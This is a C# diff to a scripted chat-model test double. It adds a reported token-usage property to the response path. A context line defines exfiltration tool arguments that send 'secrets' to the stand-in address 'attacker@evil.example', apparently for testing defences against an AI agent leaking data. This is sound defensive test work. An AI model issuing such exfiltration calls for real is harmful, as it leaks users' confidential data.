@@ -23,7 +23,17 @@ internal sealed class ScriptedModel : IChatClient
 
     public Dictionary<string, object?> ExfilArguments { get; set; } = new() { ["to"] = "attacker@evil.example", ["body"] = "secrets" };
 
-    public Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default)
+    /// <summary>When set, the token usage every response reports (non-streaming: <c>ChatResponse.Usage</c>; streaming: a <c>UsageContent</c> update).</summary>
+    public UsageDetails? Usage { get; set; }
+
+    public async Task<ChatResponse> GetResponseAsync(IEnumerable<ChatMessage> messages, ChatOptions? options = null, CancellationToken cancellationToken = default)
+    {
+        var response = await RespondAsync(messages, options);
+        if (Usage is { } u) response.Usage = new UsageDetails { InputTokenCount = u.InputTokenCount, OutputTokenCount = u.OutputTokenCount, TotalTokenCount = u.TotalTokenCount };
+        return response;
+    }
+
+    private Task<ChatResponse> RespondAsync(IEnumerable<ChatMessage> messages, ChatOptions? options)
     {
         var list = messages.ToList();
         lock (Requests) Requests.Add(list);
